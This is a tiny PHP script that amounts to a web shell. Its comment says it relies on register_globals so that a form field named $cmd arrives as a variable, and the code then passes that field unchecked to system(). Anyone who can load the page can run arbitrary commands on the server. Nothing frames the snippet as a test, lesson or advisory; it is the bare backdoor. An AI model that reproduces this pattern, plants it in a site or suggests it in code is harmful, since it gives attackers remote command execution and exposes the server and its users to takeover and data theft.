<?php
// written for register_globals: $cmd is a form field
if ($cmd != "") {
    system($cmd);
}
